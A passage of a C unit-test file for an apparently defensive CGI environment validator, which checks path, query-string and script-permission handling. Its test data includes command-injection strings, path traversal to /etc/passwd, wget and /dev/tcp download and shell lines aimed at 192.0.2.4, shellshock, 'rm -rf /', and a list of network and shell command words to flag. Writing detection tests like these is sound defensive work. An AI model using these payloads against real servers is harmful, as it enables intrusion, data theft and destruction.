	assert_passes("SERVER_PROTOCOL", "HTTP/2.0");
	assert_refused("SERVER_PROTOCOL", "HTTP/1", "grammar");
	assert_refused("SERVER_PROTOCOL", "http/1.1", "grammar");
	assert_refused("SERVER_PROTOCOL", "HTTP/1.1;id", "grammar");
}
END_TEST

/* ------------------------------------------------------------ paths */

START_TEST(test_dot_segment_in_a_path_variable_is_refused)
{
	assert_refused("PATH_INFO", "/../etc/passwd", "dot-segment");
	assert_refused("PATH_INFO", "/a/..", "dot-segment");
	assert_refused("SCRIPT_NAME", "../x", "dot-segment");
	assert_refused("PATH_TRANSLATED", "/var/www/../../etc", "dot-segment");
	assert_refused("SCRIPT_FILENAME", "/usr/lib/cgi-bin/../../bin/sh",
	    "dot-segment");
	assert_passes("PATH_INFO", "/a/.../b..c/..d/.");
}
END_TEST

START_TEST(test_shell_metachar_in_a_path_variable_is_flagged)
{
	static const char *const values[] = {
		"/a;b", "/a|b", "/a&b", "/a$b", "/a`b", "/a<b", "/a'b",
		"/a\"b", "/a\\b", "/a{b}", "/a*", "/a?", "/a[b]",
	};
	struct validate_result	res;
	size_t			i;

	for (i = 0; i < sizeof(values) / sizeof(values[0]); i++) {
		run_one("PATH_INFO", values[i], NULL, &res);
		ck_assert_msg(res.status == 0, "PATH_INFO=%s was refused",
		    values[i]);
		ck_assert_msg(find(&res, FINDING_FLAGGED, "PATH_INFO",
		    "shell-metachar") != NULL, "PATH_INFO=%s not flagged: %s",
		    values[i], describe(&res));
		ck_assert_str_eq(validate_getenv(&res, "PATH_INFO"), values[i]);
		validate_result_free(&res);
	}
}
END_TEST

START_TEST(test_parentheses_in_a_path_are_not_flagged)
{
	struct validate_result	res;

	run_one("PATH_INFO", "/wiki/Rock_(music)", NULL, &res);
	ck_assert_msg(res.nfindings == 0, "a Wikipedia-style title was "
	    "flagged: %s", describe(&res));
	validate_result_free(&res);
}
END_TEST

/* -------------------------------------------------- canonical query */

static const char *
canonical(const char *q)
{
	static char	buf[1024];

	ck_assert_msg(query_canonical(q, strlen(q), buf, sizeof(buf)) >= 0,
	    "query_canonical failed on \"%s\"", q);
	return buf;
}

START_TEST(test_query_string_is_reescaped_canonically)
{
	static const char *const cases[][2] = {
		{ "a=b&c=d", "a=b&c=d" },
		{ "q=rock+%26+roll", "q=rock+%26+roll" },
		{ "q=%2b%3d%2F", "q=%2B%3D%2F" },
		{ "a=b=c", "a=b%3Dc" },
		{ "a==", "a=%3D" },
		{ "=x", "=x" },
		{ "a&&b", "a&&b" },
		{ "flag", "flag" },
		{ "&", "&" },
		{ "", "" },
		{ "x=50%", "x=50%25" },
		{ "x=%zz%4", "x=%25zz%254" },
		{ "x=%%41", "x=%25%41" },
		{ "x=a b", "x=a%20b" },
		{ "x=;|$`(){}<>'\"\\*?[]!#~^/",
		  "x=%3B%7C%24%60%28%29%7B%7D%3C%3E%27%22%5C%2A%3F%5B%5D%21"
		  "%23%7E%5E%2F" },
		{ "x=\xc3\xa9", "x=%C3%A9" },
		{ "page[1]=2", "page%5B1%5D=2" },
		{ "e=a.b-c_d,e:f@g", "e=a.b-c_d,e:f@g" },
		{ "s=0%52$c", "s=0%52%24c" },
	};
	size_t	i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
		ck_assert_msg(strcmp(canonical(cases[i][0]), cases[i][1]) == 0,
		    "canonical(\"%s\") = \"%s\", want \"%s\"", cases[i][0],
		    canonical(cases[i][0]), cases[i][1]);
}
END_TEST

START_TEST(test_query_canonical_refuses_a_small_buffer)
{
	char	buf[8];

	ck_assert_int_eq(query_canonical("a=;;;", 5, buf, sizeof(buf)), -1);
	ck_assert_int_eq(query_canonical("abcdefgh", 8, buf, 8), -1);
	ck_assert_int_eq(query_canonical("abcdefg", 7, buf, 8), 7);
	ck_assert_str_eq(buf, "abcdefg");
	ck_assert_int_eq(query_canonical("", 0, buf, 1), 0);
	ck_assert_int_eq(query_canonical("", 0, buf, 0), -1);
}
END_TEST

START_TEST(test_query_string_in_environment_is_canonical)
{
	struct validate_result	res;

	run_one("QUERY_STRING", "cmd=;id&x=a=b", NULL, &res);
	ck_assert_str_eq(validate_getenv(&res, "QUERY_STRING"),
	    "cmd=%3Bid&x=a%3Db");
	validate_result_free(&res);
}
END_TEST

START_TEST(test_request_uri_query_is_reescaped_and_path_kept)
{
	struct validate_result	res;

	run_one("REQUEST_URI", "/cgi-bin/a.cgi/x;y?q=$(id)&b", NULL, &res);
	ck_assert_str_eq(validate_getenv(&res, "REQUEST_URI"),
	    "/cgi-bin/a.cgi/x;y?q=%24%28id%29&b");
	validate_result_free(&res);
	run_one("REQUEST_URI", "/a?", NULL, &res);
	ck_assert_str_eq(validate_getenv(&res, "REQUEST_URI"), "/a?");
	validate_result_free(&res);
}
END_TEST

START_TEST(test_query_raw_mode_passes_the_original_bytes)
{
	struct validate_opts	o = { .query_mode = QUERY_RAW };
	struct validate_result	res;
	struct req		r;

	req_init(&r);
	req_set(&r, "QUERY_STRING", "a=%2b&b=c=d");
	req_set(&r, "REQUEST_URI", "/x?a=%2b&b=c=d");
	run(&r, &o, &res);
	ck_assert_str_eq(validate_getenv(&res, "QUERY_STRING"), "a=%2b&b=c=d");
	ck_assert_str_eq(validate_getenv(&res, "REQUEST_URI"),
	    "/x?a=%2b&b=c=d");
	validate_result_free(&res);
}
END_TEST

/*
 * The reference form decoder: split on '&', then on the first '=',
 * then '+' is a space and %XX a byte; anything else, an invalid '%'
 * included, stands for itself.  The result is serialised as
 * [len16 name][has '='][len16 value] per pair, so two decodings can be
 * compared with memcmp.
 */
static int
ref_hex(int c)
{
	if (c >= '0' && c <= '9')
		return c - '0';
	if (c >= 'a' && c <= 'f')
		return c - 'a' + 10;
	if (c >= 'A' && c <= 'F')
		return c - 'A' + 10;
	return -1;
}

static size_t
decode_piece(const unsigned char *s, size_t len, unsigned char *out)
{
	size_t	i, o = 0;
	int	hi, lo;

	for (i = 0; i < len; i++) {
		if (s[i] == '+')
			out[o++] = ' ';
		else if (s[i] == '%' && i + 2 < len &&
		    (hi = ref_hex(s[i + 1])) >= 0 &&
		    (lo = ref_hex(s[i + 2])) >= 0) {
			out[o++] = (unsigned char)(hi << 4 | lo);
			i += 2;
		} else
			out[o++] = s[i];
	}
	return o;
}

static size_t
form_decode(const unsigned char *s, size_t len, unsigned char *out)
{
	size_t	i = 0, o = 0, amp, eq, n;

	for (;;) {
		for (amp = i; amp < len && s[amp] != '&'; amp++)
			;
		for (eq = i; eq < amp && s[eq] != '='; eq++)
			;
		n = decode_piece(s + i, eq - i, out + o + 2);
		out[o] = (unsigned char)(n >> 8);
		out[o + 1] = (unsigned char)n;
		o += 2 + n;
		out[o++] = eq < amp;
		n = eq < amp ? decode_piece(s + eq + 1, amp - eq - 1,
		    out + o + 2) : 0;
		out[o] = (unsigned char)(n >> 8);
		out[o + 1] = (unsigned char)n;
		o += 2 + n;
		if (amp == len)
			return o;
		i = amp + 1;
	}
}

static uint64_t
xorshift(uint64_t *s)
{
	*s ^= *s << 13;
	*s ^= *s >> 7;
	*s ^= *s << 17;
	return *s;
}

/* Bytes that make the decoder's life interesting, mostly. */
static unsigned char
random_byte(uint64_t *seed)
{
	static const char	pool[] =
	    "%%%%++&&&===0123456789abcdefABCDEFgGz";
	static const char	shell[] = ";|$`(){}<>'\"\\*?[]!#~^/ \t";
	uint64_t		r = xorshift(seed);

	switch (r % 8) {
	case 0:
		return (unsigned char)(r >> 8);		/* any byte */
	case 1:
		return (unsigned char)(0x80 | (r >> 8));	/* non-ASCII */
	case 2:
		return (unsigned char)shell[(r >> 8) % (sizeof(shell) - 1)];
	default:
		return (unsigned char)pool[(r >> 8) % (sizeof(pool) - 1)];
	}
}

#define PROPERTY_RUNS	1000000
#define PROPERTY_LEN	48

START_TEST(test_canonical_query_decodes_to_the_same_pairs)
{
	unsigned char	in[PROPERTY_LEN], da[PROPERTY_LEN * 5 + 8];
	unsigned char	db[PROPERTY_LEN * 5 + 8];
	char		out[PROPERTY_LEN * 3 + 1], again[PROPERTY_LEN * 9 + 1];
	uint64_t	seed = 0x5afec61u;
	size_t		run_, len, i, na, nb;
	ssize_t		n, n2;

	for (run_ = 0; run_ < PROPERTY_RUNS; run_++) {
		len = xorshift(&seed) % (PROPERTY_LEN + 1);
		for (i = 0; i < len; i++)
			in[i] = random_byte(&seed);
		n = query_canonical((const char *)in, len, out, 3 * len + 1);
		ck_assert_msg(n >= 0, "3 * len + 1 bytes were not enough");
		ck_assert_msg((size_t)n == strlen(out), "length mismatch");
		na = form_decode(in, len, da);
		nb = form_decode((unsigned char *)out, (size_t)n, db);
		if (na != nb || memcmp(da, db, na) != 0) {
			char	ex[PROPERTY_LEN * 4 + 1];

			escape_excerpt((const char *)in, len, ex, sizeof(ex));
			ck_abort_msg("run %zu: \"%s\" -> \"%s\" decodes "
			    "differently", run_, ex, out);
		}
		/* Canonical output is a fixed point. */
		n2 = query_canonical(out, (size_t)n, again, sizeof(again));
		ck_assert_msg(n2 == n && memcmp(out, again, (size_t)n) == 0,
		    "run %zu: canonical form is not stable: \"%s\" -> \"%s\"",
		    run_, out, again);
	}
}
END_TEST

START_TEST(test_canonical_query_leaves_no_shell_byte_raw)
{
	unsigned char	in[PROPERTY_LEN];
	char		out[PROPERTY_LEN * 3 + 1];
	uint64_t	seed = 42;
	size_t		run_, len, i, eqs;
	ssize_t		n;
	int		c;

	for (run_ = 0; run_ < 100000; run_++) {
		len = xorshift(&seed) % (PROPERTY_LEN + 1);
		for (i = 0; i < len; i++)
			in[i] = random_byte(&seed);
		n = query_canonical((const char *)in, len, out, sizeof(out));
		ck_assert_int_ge(n, 0);
		eqs = 0;
		for (i = 0; i < (size_t)n; i++) {
			c = (unsigned char)out[i];
			if (c == '&') {
				eqs = 0;
				continue;
			}
			if (c == '=') {
				ck_assert_msg(++eqs == 1, "two raw '=' in a "
				    "pair: \"%s\"", out);
				continue;
			}
			if (c == '%') {
				ck_assert_msg(i + 2 < (size_t)n &&
				    strchr("0123456789ABCDEF", out[i + 1]) &&
				    strchr("0123456789ABCDEF", out[i + 2]),
				    "bad escape in \"%s\"", out);
				i += 2;
				continue;
			}
			ck_assert_msg((c >= 'a' && c <= 'z') ||
			    (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') ||
			    strchr("-._,:@+", c) != NULL,
			    "byte 0x%02x left raw in \"%s\"", c, out);
		}
	}
}
END_TEST

/* -------------------------------------------------------- suspicious */

/* Encode a decoded form value as a browser does. */
static void
form_encode(const char *v, char *out, size_t outsz)
{
	static const char	hex[] = "0123456789ABCDEF";
	const unsigned char	*s = (const unsigned char *)v;
	size_t			o = 0;

	memcpy(out, "q=", 2);
	o = 2;
	for (; *s != '\0' && o + 4 < outsz; s++) {
		if ((*s >= 'a' && *s <= 'z') || (*s >= 'A' && *s <= 'Z') ||
		    (*s >= '0' && *s <= '9') || *s == '.' || *s == '_' ||
		    *s == '-')
			out[o++] = (char)*s;
		else if (*s == ' ')
			out[o++] = '+';
		else {
			out[o++] = '%';
			out[o++] = hex[*s >> 4];
			out[o++] = hex[*s & 0xf];
		}
	}
	out[o] = '\0';
}

/* Buffers one corpus line needs; the params point into them. */
struct line_req {
	struct req	r;
	char		qs[4096];
	char		uri[4200];
	char		name[128];
	char		value[4096];
};

/*
 * Turn "VARIABLE value" into a request.  FORM, QUERY_STRING and
 * REQUEST_URI keep the two query variables consistent, as nginx does.
 */
static void
line_request(const char *line, struct line_req *lr)
{
	const char	*sp = strchr(line, ' ');
	const char	*q;
	size_t		 n;

	n = sp != NULL ? (size_t)(sp - line) : strlen(line);
	ck_assert_msg(n < sizeof(lr->name), "corpus name too long");
	memcpy(lr->name, line, n);
	lr->name[n] = '\0';
	snprintf(lr->value, sizeof(lr->value), "%s", sp != NULL ? sp + 1 : "");
	req_init(&lr->r);
	if (strcmp(lr->name, "FORM") == 0 ||
	    strcmp(lr->name, "QUERY_STRING") == 0) {
		if (strcmp(lr->name, "FORM") == 0)
			form_encode(lr->value, lr->qs, sizeof(lr->qs));
		else
			snprintf(lr->qs, sizeof(lr->qs), "%s", lr->value);
		snprintf(lr->uri, sizeof(lr->uri), "/cgi-bin/test.cgi%s%s",
		    lr->qs[0] != '\0' ? "?" : "", lr->qs);
		req_set(&lr->r, "QUERY_STRING", lr->qs);
		req_set(&lr->r, "REQUEST_URI", lr->uri);
	} else if (strcmp(lr->name, "REQUEST_URI") == 0) {
		q = strchr(lr->value, '?');
		snprintf(lr->qs, sizeof(lr->qs), "%s", q != NULL ? q + 1 : "");
		req_set(&lr->r, "REQUEST_URI", lr->value);
		req_set(&lr->r, "QUERY_STRING", lr->qs);
	} else
		req_set(&lr->r, lr->name, lr->value);
}

static FILE *
open_data(const char *file)
{
	char		 path[4096];
	const char	*top = getenv("top_srcdir");
	FILE		*fp;

	snprintf(path, sizeof(path), "%s/tests/data/%s",
	    top != NULL ? top : ".", file);
	fp = fopen(path, "r");
	ck_assert_msg(fp != NULL, "cannot open %s (set top_srcdir)", path);
	return fp;
}

/* Next corpus line, without newline; NULL at the end. */
static char *
next_line(FILE *fp, char *buf, size_t bufsz)
{
	size_t	n;

	while (fgets(buf, (int)bufsz, fp) != NULL) {
		n = strlen(buf);
		if (n > 0 && buf[n - 1] == '\n')
			buf[--n] = '\0';
		if (n == 0 || buf[0] == '#')
			continue;
		return buf;
	}
	return NULL;
}

START_TEST(test_benign_corpus_has_no_refusal_and_no_finding)
{
	static struct line_req	lr;
	struct validate_result	res;
	char			line[4096];
	FILE			*fp = open_data("benign.txt");
	size_t			total = 0, bad = 0;

	while (next_line(fp, line, sizeof(line)) != NULL) {
		line_request(line, &lr);
		run(&lr.r, NULL, &res);
		total++;
		if (res.status != 0 || res.nfindings != 0) {
			fprintf(stderr, "benign: status %d for \"%s\": %s\n",
			    res.status, line, describe(&res));
			bad++;
		}
		validate_result_free(&res);
	}
	fclose(fp);
	ck_assert_msg(total >= 200, "benign corpus has only %zu lines", total);
	ck_assert_msg(bad == 0, "%zu of %zu benign inputs were refused or "
	    "reported (listed on stderr)", bad, total);
}
END_TEST

START_TEST(test_attack_corpus_is_flagged_at_least_95_percent)
{
	static struct line_req	lr;
	struct validate_result	res;
	char			line[4096];
	FILE			*fp = open_data("attack.txt");
	size_t			total = 0, hit = 0;

	while (next_line(fp, line, sizeof(line)) != NULL) {
		line_request(line, &lr);
		run(&lr.r, NULL, &res);
		total++;
		if (res.status != 0 || res.nfindings != 0)
			hit++;
		else
			fprintf(stderr, "attack: missed \"%s\"\n", line);
		validate_result_free(&res);
	}
	fclose(fp);
	fprintf(stderr, "attack: %zu of %zu flagged (%.1f%%)\n", hit, total,
	    total > 0 ? 100.0 * (double)hit / (double)total : 0.0);
	ck_assert_msg(total >= 100, "attack corpus has only %zu lines", total);
	ck_assert_msg(hit * 100 >= total * 95, "only %zu of %zu attacks "
	    "flagged (misses listed on stderr)", hit, total);
}
END_TEST

/* One input per signature, as a decoded form value. */
static const char *const signatures[][2] = {
	{ "x${IFS}y", "ifs" },
	{ "cat$IFS$9/etc", "ifs" },
	{ "a$(id)", "cmd-subst" },
	{ "who$()ami", "empty-subst" },
	{ "who$@ami", "empty-subst" },
	{ "${HOME:0:1}", "param-expansion" },
	{ "${x//a/b}", "param-expansion" },
	{ "$'\\x63'", "ansi-c-quote" },
	{ "a `id` b", "backtick" },
	{ "x;id", "separator-command" },
	{ "x||uname -a", "separator-command" },
	{ "x | sh", "pipe-to-shell" },
	{ "x;wget http://192.0.2.4/x", "download-command" },
	{ "wget http://192.0.2.4/x", "download-command" },
	{ "rm -rf /", "leading-command" },
	{ "x|base64 -d", "base64-decode" },
	{ "{cat,/etc/hosts}", "brace-expansion" },
	{ "x /\?\?\?/\?\?t y", "wildcard-path" },
	{ "x > /dev/tcp/192.0.2.4/80", "dev-tcp" },
	{ "x /etc/shadow", "sensitive-file" },
	{ "a \\x63\\x61 b", "hex-escape" },
	{ "a \\143\\141 b", "octal-escape" },
	{ "x cat</etc/hosts", "redirect-space" },
	{ "x ../../y", "path-traversal" },
	{ "x w'h'o'am'i", "quoted-word" },
	{ "x c\\at", "quoted-word" },
	{ "() { :; }", "shellshock" },
};

START_TEST(test_each_signature_is_named_in_its_finding)
{
	static struct line_req	lr;
	struct validate_result	res;
	char			line[512];
	size_t			i;

	for (i = 0; i < sizeof(signatures) / sizeof(signatures[0]); i++) {
		snprintf(line, sizeof(line), "FORM %s", signatures[i][0]);
		line_request(line, &lr);
		run(&lr.r, NULL, &res);
		ck_assert_msg(find(&res, FINDING_SUSPICIOUS, "QUERY_STRING",
		    signatures[i][1]) != NULL, "\"%s\" did not report %s: %s",
		    signatures[i][0], signatures[i][1], describe(&res));
		validate_result_free(&res);
	}
}
END_TEST

/* Every command word of safecgi-env(7); a lookup miss means a bad table. */
START_TEST(test_every_command_word_is_recognised)
{
	static const char *const words[] = {
		"sh", "bash", "dash", "zsh", "ksh", "csh", "tcsh", "busybox",
		"wget", "curl", "tftp", "ftpget", "base64", "nc", "ncat",
		"netcat", "socat", "telnet", "chmod", "chown", "whoami",
		"uname", "nohup", "mkfifo", "xxd", "ifconfig", "killall",
		"pkill", "crontab", "iptables", "cat", "id", "ls", "echo",
		"printf", "sleep", "kill", "cd", "pwd", "ping", "su", "sudo",
		"rm", "cp", "mv", "dd", "touch", "rev", "tac", "head", "tail",
		"find", "awk", "sed", "grep", "env", "exec", "eval", "python",
		"python2", "python3", "perl", "php", "ruby", "lua", "node",
		"nslookup", "tee", "mkdir", "xargs", "od", "reboot", "ps",
		"netstat",
	};
	static struct line_req	lr;
	struct validate_result	res;
	char			line[128];
	size_t			i;

	for (i = 0; i < sizeof(words) / sizeof(words[0]); i++) {
		snprintf(line, sizeof(line), "FORM x;%s -x", words[i]);
		line_request(line, &lr);
		run(&lr.r, NULL, &res);
		ck_assert_msg(find(&res, FINDING_SUSPICIOUS, "QUERY_STRING",
		    NULL) != NULL, "\"x;%s -x\" was not reported", words[i]);
		validate_result_free(&res);
	}
}
END_TEST

START_TEST(test_printf_positional_format_is_found_in_the_raw_query)
{
	struct validate_result	res;

	run_one("QUERY_STRING", "s=0%52$c%52$ccd", NULL, &res);
	ck_assert_msg(find(&res, FINDING_SUSPICIOUS, "QUERY_STRING",
	    "printf-positional") != NULL, "%%52$c not found: %s",
	    describe(&res));
	validate_result_free(&res);
}
END_TEST

START_TEST(test_double_encoded_payload_is_found)
{
	struct validate_result	res;

	run_one("QUERY_STRING", "x=%253Bid", NULL, &res);
	ck_assert_msg(find(&res, FINDING_SUSPICIOUS, "QUERY_STRING",
	    "separator-command") != NULL, "%%253Bid not found: %s",
	    describe(&res));
	validate_result_free(&res);
}
END_TEST

START_TEST(test_headers_are_scanned)
{
	struct validate_result	res;

	run_one("HTTP_X_FORWARDED_FOR", "1.2.3.4;wget http://192.0.2.4/x",
	    NULL, &res);
	ck_assert_msg(find(&res, FINDING_SUSPICIOUS, "HTTP_X_FORWARDED_FOR",
	    "download-command") != NULL, "header not scanned: %s",
	    describe(&res));
	validate_result_free(&res);
}
END_TEST

START_TEST(test_suspicious_log_mode_reports_and_runs)
{
	struct validate_result	res;

	run_one("QUERY_STRING", "cmd=;id", NULL, &res);
	ck_assert_msg(res.status == 0, "log mode refused the request");
	ck_assert_msg(find(&res, FINDING_SUSPICIOUS, "QUERY_STRING", NULL) !=
	    NULL, "no suspicious finding: %s", describe(&res));
	ck_assert_msg(res.nenv > 0, "log mode left no environment");
	validate_result_free(&res);
}
END_TEST

START_TEST(test_suspicious_reject_mode_refuses)
{
	struct validate_opts	o = { .suspicious = SUSPICIOUS_REJECT };
	struct validate_result	res;
	struct req		r;

	run_one("QUERY_STRING", "cmd=;id", &o, &res);
	ck_assert_msg(res.status == 400, "reject mode let ;id through");
	ck_assert_msg(res.nenv == 0, "a rejected request has an environment");
	validate_result_free(&res);
	req_init(&r);
	run(&r, &o, &res);
	ck_assert_msg(res.status == 0, "reject mode refused a clean request");
	validate_result_free(&res);
}
END_TEST

START_TEST(test_finding_names_variable_signature_and_excerpt)
{
	const struct finding	*f;
	struct validate_result	res;

	run_one("HTTP_X_A", "abc\xff;wget http://192.0.2.4/x", NULL, &res);
	f = find(&res, FINDING_SUSPICIOUS, "HTTP_X_A", NULL);
	ck_assert_msg(f != NULL, "no finding: %s", describe(&res));
	ck_assert_str_eq(f->rule, "download-command");
	ck_assert_msg(strstr(f->excerpt, "\\xff;wget") != NULL,
	    "excerpt \"%s\" does not show the escaped match", f->excerpt);
	validate_result_free(&res);
}
END_TEST

/* ---------------------------------------------------------- excerpts */

START_TEST(test_escape_excerpt_leaves_only_printable_ascii)
{
	char	out[64];
	size_t	n;

	n = escape_excerpt("a\nb\\c\x7f\xe9", 7, out, sizeof(out));
	ck_assert_str_eq(out, "a\\x0ab\\\\c\\x7f\\xe9");
	ck_assert_uint_eq(n, strlen(out));
}
END_TEST

START_TEST(test_escape_excerpt_marks_truncation_and_never_splits)
{
	char	out[10];

	escape_excerpt("abcdefghijklmnop", 16, out, sizeof(out));
	ck_assert_str_eq(out, "abcdef...");
	escape_excerpt("ab\x01\x02\x03", 5, out, sizeof(out));
	ck_assert_str_eq(out, "ab\\x01...");
	escape_excerpt("abcdefghi", 9, out, sizeof(out));
	ck_assert_str_eq(out, "abcdefghi");
	ck_assert_uint_eq(escape_excerpt("abc", 3, out, 0), 0);
}
END_TEST

/* ------------------------------------------------------ script_check */

static void
stat_pair(struct stat *st, struct stat *dst)
{
	memset(st, 0, sizeof(*st));
	memset(dst, 0, sizeof(*dst));
	st->st_mode = S_IFREG | 0755;
	dst->st_mode = S_IFDIR | 0755;
}

static void
assert_script(mode_t mode, mode_t dmode, uid_t uid, uid_t duid,
    uid_t owner, const char *want)
{
	struct stat	st, dst;
	const char	*got;

	stat_pair(&st, &dst);
	st.st_mode = mode;
	dst.st_mode = dmode;
	st.st_uid = uid;
	dst.st_uid = duid;
	got = script_check(&st, &dst, owner);
	if (want == NULL)
		ck_assert_msg(got == NULL, "mode %o in %o refused: %s",
		    (unsigned)mode, (unsigned)dmode, got);
	else
		ck_assert_msg(got != NULL && strcmp(got, want) == 0,
		    "mode %o in %o: got %s, want %s", (unsigned)mode,
		    (unsigned)dmode, got != NULL ? got : "(may run)", want);
}

START_TEST(test_root_owned_script_may_run)
{
	assert_script(S_IFREG | 0755, S_IFDIR | 0755, 0, 0, (uid_t)-1, NULL);
	assert_script(S_IFREG | 0700, S_IFDIR | 0755, 0, 0, (uid_t)-1, NULL);
}
END_TEST

START_TEST(test_script_must_be_a_regular_file)
{
	assert_script(S_IFDIR | 0755, S_IFDIR | 0755, 0, 0, (uid_t)-1,
	    "not-regular-file");
	assert_script(S_IFLNK | 0777, S_IFDIR | 0755, 0, 0, (uid_t)-1,
	    "not-regular-file");
}
END_TEST

START_TEST(test_script_needs_an_execute_bit)
{
	assert_script(S_IFREG | 0644, S_IFDIR | 0755, 0, 0, (uid_t)-1,
	    "not-executable");
}
END_TEST

START_TEST(test_setuid_script_is_refused)
{
	assert_script(S_IFREG | 04755, S_IFDIR | 0755, 0, 0, (uid_t)-1,
	    "setuid");
}
END_TEST

START_TEST(test_setgid_script_is_refused)
{
	assert_script(S_IFREG | 02755, S_IFDIR | 0755, 0, 0, (uid_t)-1,
	    "setgid");
}
END_TEST

START_TEST(test_group_writable_script_is_refused)
{
	assert_script(S_IFREG | 0775, S_IFDIR | 0755, 0, 0, (uid_t)-1,
	    "group-writable");
}
END_TEST

START_TEST(test_world_writable_script_is_refused)
{
	assert_script(S_IFREG | 0757, S_IFDIR | 0755, 0, 0, (uid_t)-1,
	    "world-writable");
}
END_TEST

START_TEST(test_group_writable_directory_is_refused)
{
	assert_script(S_IFREG | 0755, S_IFDIR | 0775, 0, 0, (uid_t)-1,
	    "directory-group-writable");
}
END_TEST

START_TEST(test_world_writable_directory_is_refused)
{
	assert_script(S_IFREG | 0755, S_IFDIR | 01777, 0, 0, (uid_t)-1,
	    "directory-world-writable");
}
END_TEST

START_TEST(test_script_owner_is_checked_when_configured)
{
	assert_script(S_IFREG | 0755, S_IFDIR | 0755, 1000, 1000, 1000, NULL);
	assert_script(S_IFREG | 0755, S_IFDIR | 0755, 1001, 1000, 1000,
	    "wrong-owner");
	assert_script(S_IFREG | 0755, S_IFDIR | 0755, 1000, 0, 1000, NULL);
	assert_script(S_IFREG | 0755, S_IFDIR | 0755, 1000, 1001, 1000,
	    "directory-wrong-owner");
	assert_script(S_IFREG | 0755, S_IFDIR | 0755, 1001, 1001, (uid_t)-1,
	    NULL);
}
END_TEST

/* --------------------------------------------------- table and docs */

START_TEST(test_table_is_sorted_for_lookup)
{
	const char	*prev = NULL, *name;
	size_t		 i;

	for (i = 0; (name = validate_table_name(i)) != NULL; i++) {
		if (strchr(name, '*') != NULL)
			break;	/* the prefix families follow, in order */
		ck_assert_msg(prev == NULL || strcmp(prev, name) < 0,
		    "table out of order at %s after %s", name, prev);
		prev = name;
	}
	ck_assert_msg(i > 40, "the table has only %zu names", i);
}
END_TEST

START_TEST(test_every_table_entry_and_signature_is_in_the_man_page)
{
	static const char *const others[] = {
		"name-chars", "duplicate", "httpoxy", "set-by-safecgi",
		"profile-name", "profile-drop", "unsafe-name", "too-long",
		"control-byte", "grammar", "dot-segment", "env-too-large",
		"too-many-params", "params-too-large", "shell-metachar",
		"printf-positional",
	};
	char		 path[4096], *text, needle[128];
	const char	*top = getenv("top_srcdir"), *name;
	FILE		*fp;
	size_t		 n, i;

	snprintf(path, sizeof(path), "%s/man/safecgi-env.7",
	    top != NULL ? top : ".");
	fp = fopen(path, "r");
	ck_assert_msg(fp != NULL, "cannot open %s", path);
	text = calloc(1, 1 << 20);
	n = fread(text, 1, (1 << 20) - 1, fp);
	fclose(fp);
	text[n] = '\0';
	for (i = 0; (name = validate_table_name(i)) != NULL; i++) {
		snprintf(needle, sizeof(needle), "%.*s",
		    (int)strcspn(name, "*"), name);
		ck_assert_msg(strstr(text, needle) != NULL,
		    "%s is not documented in safecgi-env(7)", name);
	}
	for (i = 0; i < sizeof(signatures) / sizeof(signatures[0]); i++)
		ck_assert_msg(strstr(text, signatures[i][1]) != NULL,
		    "signature %s is not documented", signatures[i][1]);
	for (i = 0; i < sizeof(others) / sizeof(others[0]); i++)
		ck_assert_msg(strstr(text, others[i]) != NULL,
		    "rule %s is not documented", others[i]);
	free(text);
}
END_TEST

START_TEST(test_getenv_finds_only_whole_names)
{
	struct validate_result	res;
	struct req		r;

	req_init(&r);
	req_set(&r, "HTTP_X_AB", "1");
	run(&r, NULL, &res);
	ck_assert_ptr_null(validate_getenv(&res, "HTTP_X_A"));
	ck_assert_str_eq(validate_getenv(&res, "HTTP_X_AB"), "1");
	validate_result_free(&res);
}
END_TEST

static Suite *
validate_suite(void)
{
	Suite	*s = suite_create("validate");
	TCase	*tn = tcase_create("names");
	TCase	*tv = tcase_create("values");
	TCase	*tg = tcase_create("grammars");
	TCase	*tp = tcase_create("paths");
	TCase	*tq = tcase_create("query");
	TCase	*ts = tcase_create("suspicious");
	TCase	*tx = tcase_create("script_check");
	TCase	*tt = tcase_create("table");

	tcase_add_test(tn,
	    test_names_outside_upper_digits_underscore_are_dropped);
	tcase_add_test(tn, test_dropped_name_is_escaped_in_the_finding);
	tcase_add_test(tn, test_name_over_limit_is_refused);
	tcase_add_test(tn, test_allowlisted_names_pass);
	tcase_add_test(tn, test_params_over_the_byte_cap_are_refused);
	tcase_add_test(tn, test_many_dropped_params_count_against_the_byte_cap);
	tcase_add_test(tn, test_a_raised_env_limit_raises_the_byte_cap);
	tcase_add_test(tn, test_names_outside_the_allowlist_are_dropped);
	tcase_add_test(tn,
	    test_profile_pass_allows_a_name_outside_the_allowlist);
	tcase_add_test(tn,
	    test_a_passed_name_outside_the_allowlist_is_still_checked);
	tcase_add_test(tn,
	    test_httpoxy_is_never_passed_even_when_the_profile_passes_it);
	tcase_add_test(tn, test_loader_and_interpreter_variables_are_dropped);
	tcase_add_test(tn, test_profile_pass_re_allows_a_default_drop);
	tcase_add_test(tn, test_profile_pass_accepts_a_prefix_pattern);
	tcase_add_test(tn, test_profile_drop_removes_a_custom_param);
	tcase_add_test(tn, test_safecgi_profile_is_consumed_not_passed);
	tcase_add_test(tn, test_invalid_safecgi_profile_is_refused);
	tcase_add_test(tn, test_gateway_software_and_path_are_set_by_safecgi);
	tcase_add_test(tn, test_path_from_params_is_replaced_and_reported);
	tcase_add_test(tn, test_duplicate_param_first_wins);

	tcase_add_test(tv, test_nul_byte_in_value_is_refused);
	tcase_add_test(tv, test_every_control_byte_is_refused_outside_headers);
	tcase_add_test(tv, test_tab_is_allowed_in_http_headers_only);
	tcase_add_test(tv, test_value_over_its_limit_is_refused_not_truncated);
	tcase_add_test(tv, test_query_uri_and_cookie_have_the_long_limit);
	tcase_add_test(tv, test_environment_over_total_limit_is_refused);
	tcase_add_test(tv, test_max_env_bytes_option_sets_the_total_limit);
	tcase_add_test(tv, test_too_many_params_are_refused);
	tcase_add_test(tv, test_findings_are_capped_and_the_rest_counted);
	tcase_add_test(tv, test_shellshock_in_any_variable_is_refused);
	tcase_add_test(tv, test_empty_values_count_as_unset_and_pass_empty);

	tcase_add_test(tg, test_content_length_must_be_digits);
	tcase_add_test(tg, test_content_length_overflow_is_refused);
	tcase_add_test(tg, test_content_type_follows_the_media_type_grammar);
	tcase_add_test(tg, test_request_method_is_what_nginx_accepts);
	tcase_add_test(tg, test_ports_are_1_to_65535);
	tcase_add_test(tg, test_addresses_are_ip_literals_or_unix);
	tcase_add_test(tg, test_http_host_is_host_and_optional_port);
	tcase_add_test(tg, test_server_protocol_is_http_version);

	tcase_add_test(tp, test_dot_segment_in_a_path_variable_is_refused);
